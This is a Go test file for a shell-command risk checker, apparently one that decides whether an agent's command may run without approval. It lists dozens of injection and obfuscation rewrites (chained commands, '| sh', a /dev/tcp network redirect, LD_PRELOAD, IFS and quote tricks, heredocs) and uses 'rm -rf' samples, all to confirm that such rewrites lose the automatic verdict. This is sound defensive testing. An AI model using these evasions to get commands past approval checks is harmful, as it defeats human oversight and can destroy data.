package risk

import (
	"encoding/json"
	"os"
	"strings"
	"testing"
)

// mutations are rewritings that make an automatic command do something else, or
// hide what it does. Each one must lose the automatic verdict.
var mutations = []struct {
	name    string
	rewrite func(string) string
}{
	{"newline", func(s string) string { return s + "\ntouch /tmp/x" }},
	{"carriage return", func(s string) string { return s + "\rtouch /tmp/x" }},
	{"semicolon", func(s string) string { return s + "; touch /tmp/x" }},
	{"ampersand", func(s string) string { return s + " & touch /tmp/x" }},
	{"and", func(s string) string { return s + " && touch /tmp/x" }},
	{"or", func(s string) string { return s + " || touch /tmp/x" }},
	{"pipe", func(s string) string { return s + " | tee /tmp/x" }},
	{"pipe to a shell", func(s string) string { return s + " | sh" }},
	{"before", func(s string) string { return "touch /tmp/x; " + s }},
	{"redirection", func(s string) string { return "{ " + s + "\n} > /tmp/x" }},
	{"append", func(s string) string { return "{ " + s + "\n} >> /tmp/x" }},
	{"network", func(s string) string { return "{ " + s + "\n} > /dev/tcp/10.0.0.1/80" }},
	{"substitution", func(s string) string { return s + " $(touch /tmp/x)" }},
	{"backquotes", func(s string) string { return s + " `touch /tmp/x`" }},
	{"quoted substitution", func(s string) string { return s + ` "$(touch /tmp/x)"` }},
	{"process substitution", func(s string) string { return s + " <(touch /tmp/x)" }},
	{"sudo", func(s string) string { return "sudo sh -c '" + strings.ReplaceAll(s, "'", `'\''`) + "'" }},
	{"eval", func(s string) string { return "eval '" + strings.ReplaceAll(s, "'", `'\''`) + "'" }},
	{"function", func(s string) string { return "ls() { " + s + "\n}; ls" }},
	{"alias", func(s string) string { return "alias ls='touch x'; " + s }},
	{"preload", func(s string) string { return "export LD_PRELOAD=./x.so; " + s }},
	{"path", func(s string) string { return "PATH=.:$PATH; " + s }},
	{"field separator", func(s string) string { return "IFS=/; " + s }},
	{"prompt command", func(s string) string { return "PROMPT_COMMAND=x; " + s }},
	{"trap", func(s string) string { return "trap 'touch x' EXIT; " + s }},
	{"relative program", func(s string) string { return "./" + strings.TrimLeft(s, " ") }},
	{"temporary program", func(s string) string { return "/tmp/" + strings.TrimLeft(s, "/ ") }},
	{"unclosed quote", func(s string) string { return s + " '" }},
	{"unclosed substitution", func(s string) string { return s + " $(" }},
	{"open block", func(s string) string { return s + "\n{" }},
	{"trailing backslash", func(s string) string { return s + ` \` }},
	{"zero byte", func(s string) string { return s + "\x00" }},
	{"escape sequence", func(s string) string { return s + " \x1b[2K" }},
	{"bidirectional override", func(s string) string { return s + " \u202e" }},
	{"no-break space", func(s string) string { return s + "\u00a0x" }},
	{"invalid bytes", func(s string) string { return s + " \xff" }},
	{"history", func(s string) string { return s + "; !rm" }},
	{"background write", func(s string) string { return "touch /tmp/x & " + s }},
	{"unknown program", func(s string) string { return "frobnicate; " + s }},
	{"separator trick", func(s string) string { return s + "; touch$IFS/tmp/x" }},
	{"brace trick", func(s string) string { return s + "; {touch,/tmp/x}" }},
	{"quote trick", func(s string) string { return s + "; to''uch /tmp/x" }},
	{"escape trick", func(s string) string { return s + `; $'\x74ouch' /tmp/x` }},
	{"variable trick", func(s string) string { return s + "; t=touch; $t /tmp/x" }},
	{"heredoc", func(s string) string { return s + "\nsh <<X\ntouch /tmp/x\nX" }},
}

// TestNoMutationStaysAutomatic tries a part of the pairs of a command and a rewriting,
// so that each rewriting meets many commands, or all pairs with NOD_E2E=1.
func TestNoMutationStaysAutomatic(t *testing.T) {
	share := 4
	switch {
	case os.Getenv("NOD_E2E") == "1":
		share = 1
	case raced:
		share = 16
	}
	for _, e := range corpus(t) {
		if !e.auto {
			continue
		}
		for i, m := range mutations {
			if (e.line+i)%share != 0 {
				continue
			}
			text := m.rewrite(e.command)
			for _, d := range []Dialect{Bash, POSIX, Zsh, Fish} {
				if harmless(m.name, e.command) || d != Bash && e.line%8 != 0 {
					continue
				}
				if v := Command(text, d); v.Auto {
					t.Errorf("%s in %v: %q runs by itself", m.name, d, text)
				}
			}
		}
	}
}

// harmless names the pairs in which a rewriting changes nothing: a comment
// swallows what is appended to its line.
func harmless(mutation, command string) bool {
	switch mutation {
	case "newline", "before", "redirection", "append", "network", "sudo", "eval", "function", "alias", "preload", "path",
		"field separator", "prompt command", "trap", "relative program", "temporary program", "open block", "heredoc",
		"zero byte", "escape sequence", "bidirectional override", "no-break space", "invalid bytes", "carriage return",
		"background write", "unknown program":
		return false
	}
	return strings.Contains(command, "#")
}

func TestOtherDialectsAreNeverBolder(t *testing.T) {
	for _, e := range corpus(t) {
		if e.auto {
			continue
		}
		for _, d := range []Dialect{POSIX, Zsh, Fish} {
			if v := Command(e.command, d); v.Auto {
				t.Errorf("line %d: in %v %q runs by itself", e.line, d, e.command)
			}
		}
	}
}

// checkVerdict is what holds for every verdict.
func checkVerdict(t *testing.T, v Verdict, size int) {
	t.Helper()
	if v.Effect == Unassessed || v.Level == Unrated || v.Findings == nil {
		t.Fatalf("unfinished verdict: %+v", v)
	}
	if v.Auto && (v.Effect != Observe || v.Flags != 0 || v.Level != Low || v.Mutation || v.Privesc) {
		t.Fatalf("automatic in spite of itself: %+v", v)
	}
	if v.Mutation != v.Effect.AtLeast(Mutate) || v.Privesc != v.Flags.Has(Privesc) || v.Level != levelOf(v.Effect, v.Flags) {
		t.Fatalf("inconsistent verdict: %+v", v)
	}
	if !v.Auto && len(v.Findings) == 0 {
		t.Fatalf("asks without a reason: %+v", v)
	}
	for _, f := range v.Findings {
		if f.Start < 0 || f.End < f.Start || f.End > size || f.Rule == "" || f.Why == "" || !exact(f.Why) {
			t.Fatalf("broken finding %+v in %d bytes", f, size)
		}
	}
	if v.Auto != (v.Plain && len(v.Reaches) == 0) || v.Plain && (v.Effect != Observe || v.Flags != 0 || hasRule(v, RuleFolder)) {
		t.Fatalf("plain in spite of itself: %+v", v)
	}
	for _, r := range v.Reaches {
		if r.Start < 0 || r.End < r.Start || r.End > size || r.Host == "" || thisHost(r.Host) {
			t.Fatalf("broken reach %+v in %d bytes", r, size)
		}
	}
}

func FuzzCommand(f *testing.F) {
	for _, e := range corpus(f) {
		f.Add(e.command, uint8(e.line%4))
	}
	f.Fuzz(func(t *testing.T, text string, dialect uint8) {
		d := Dialect(dialect % 4)
		v := Command(text, d)
		checkVerdict(t, v, len(text))
		if Explain(v, text) == "" {
			t.Fatal("no explanation")
		}
		for _, tail := range []string{"\n'", "\n$("} {
			if !v.Auto {
				break
			}
			if cut := Command(text+tail, d); cut.Auto {
				t.Fatalf("automatic with an open end: %q", text+tail)
			}
		}
		ShellKillers(text, d)
		checkVerdict(t, Argv(strings.Fields(text)), len(text)+1)
		checkVerdict(t, ReadFile(text), len(text))
		if w := WriteFile(text); w.Auto || !w.Mutation {
			t.Fatalf("writing %q is not an ordinary thing: %+v", text, w)
		}
		k := Keys(Keystrokes{Literal: text, Keys: strings.Fields(text), AtPrompt: dialect&8 != 0, Dialect: d})
		if k.Auto && (k.Effect != Observe || k.Flags != 0) {
			t.Fatalf("automatic in spite of itself: %+v", k)
		}
	})
}

func TestBounds(t *testing.T) {
	for name, text := range map[string]string{
		"long":     "ls " + strings.Repeat("a", maxText),
		"brackets": strings.Repeat("$(", 5000),
		"closed":   strings.Repeat("$(", 500) + "ls" + strings.Repeat(")", 500),
		"unknown":  "cat /etc/" + strings.Repeat("$a", 400) + "q", // each part may be anything
		"braces":   "ls " + strings.Repeat("{a,b}", 40),
		"numbers":  "ls {1..999999999}",
		"nested":   nestedShells(40),
		"blank":    "a=' '; $a",
		"blanks":   "for i in ' ' '	'; do $i; done",
		"blocks":   strings.Repeat("if true; then ", 400) + "ls" + strings.Repeat("; fi", 400),
		"loops":    strings.Repeat("for i in 1 2 3 4 5 6 7 8 9; do ", 8) + "ls" + strings.Repeat("; done", 8),
	} {
		t.Run(name, func(t *testing.T) {
			v := Command(text, Bash)
			checkVerdict(t, v, len(text))
			if v.Auto {
				t.Error("runs by itself")
			}
		})
	}
}

func nestedShells(n int) string {
	text := "ls"
	for range n {
		text = "sh -c eval\\ " + strings.ReplaceAll(text, " ", "\\ ")
		if len(text) > maxText/4 {
			break
		}
	}
	return text
}

func TestZeroVerdictIsTheStrongest(t *testing.T) {
	var v Verdict
	if v.Auto || !v.Effect.AtLeast(Destroy) || !v.Level.AtLeast(High) {
		t.Errorf("%+v", v)
	}
	got, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	want := `{"effect":"destroy","level":"high","mutation":true,"privesc":false,"flags":[],"auto":false,"findings":[]}`
	if string(got) != want {
		t.Errorf("got %s", got)
	}
}

func TestVerdictAsDocumented(t *testing.T) {
	got, err := json.Marshal(Command("rm -rf /srv/app/releases/2024", Bash))
	if err != nil {
		t.Fatal(err)
	}
	want := `{"effect":"destroy","level":"high","mutation":true,"privesc":false,"flags":[],"auto":false,"findings":[{"rule":"rm.recursive","start":0,"end":6,"why":"removes files recursively"}`
	if !strings.HasPrefix(string(got), want) {
		t.Errorf("got %s", got)
	}
	var back Verdict
	if err := json.Unmarshal(got, &back); err != nil || back.Effect != Destroy || back.Level != High {
		t.Errorf("read back %+v, %v", back, err)
	}
}

func BenchmarkCommand(b *testing.B) {
	all := corpus(b)
	Command("ls", Bash)
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		Command(all[i%len(all)].command, Bash)
	}
}

// Where the cursor stands on a line that has begun is not known: keys of an
// earlier call, or the operator's, may have moved it. "ls x" and then C-a and
// then "rm -rf /srv; " are not "ls xrm -rf /srv; ".
func TestNothingIsAddedUnseenToALineThatHasBegun(t *testing.T) {
	for _, k := range []Keystrokes{
		{Pending: "ls x", Literal: "rm -rf /srv; ", Enter: true},
		{Pending: "ls x", Literal: "rm -rf /srv; "},
		{Pending: "ls x", Literal: "rm -rf /srv; \n"},
		{Pending: "ls x", Keys: []string{"r", "m", "Space"}, Enter: true},
	} {
		k.AtPrompt, k.Dialect = true, Bash
		if v := Keys(k); v.Auto || !v.Flags.Has(Opaque) {
			t.Errorf("%+v: %s, auto %t", k, v.Effect, v.Auto)
		}
	}
	if v := Keys(Keystrokes{Pending: "ls x", Enter: true, AtPrompt: true, Dialect: Bash}); !v.Auto {
		t.Errorf("a line that is sent off as it is: %+v", v)
	}
}

// A shell ends a comment with its line, whatever stands at its end; the parser
// goes on behind a backslash.
func TestABackslashDoesNotContinueAComment(t *testing.T) {
	for _, text := range []string{
		"df -h # fine \\\ntouch /tmp/x", "df -h #\\\ntouch /tmp/x", "# \\\n# \\\ntouch /tmp/x", "ls # \\\\\\\ntouch /tmp/x",
		"{ ls # a\\\ntouch /tmp/x\n}", "ls $(ls # \\\ntouch /tmp/x\n)", "sh -c 'ls # \\\ntouch /tmp/x'",
	} {
		for _, d := range []Dialect{Bash, POSIX, Zsh, Fish} {
			if v := Command(text, d); v.Auto || !v.Mutation {
				t.Errorf("%q in %v: %s, auto %t", text, d, v.Effect, v.Auto)
			}
		}
	}
	if v := Command("ls -l \\\n  /srv # all of it", Bash); !v.Auto {
		t.Errorf("a line that goes on: %v", v.Findings)
	}
	if found := ShellKillers("ls # \\\nexit 1", Bash); len(found) != 1 {
		t.Errorf("an exit behind a comment: %v", found)
	}
}

// Assessing changes nothing in the tree that was read: loops are read more than
// once.
func TestBracesInLoopsWithinLoops(t *testing.T) {
	const text = "for a in 1 2; do for b in 1 2; do ls {x,y}; c=rm; done; $c {x,y}; done"
	for _, d := range []Dialect{Bash, POSIX, Zsh} {
		if v := Command(text, d); v.Effect != Destroy || v.Auto {
			t.Errorf("%v: %+v", d, v)
		}
	}
}
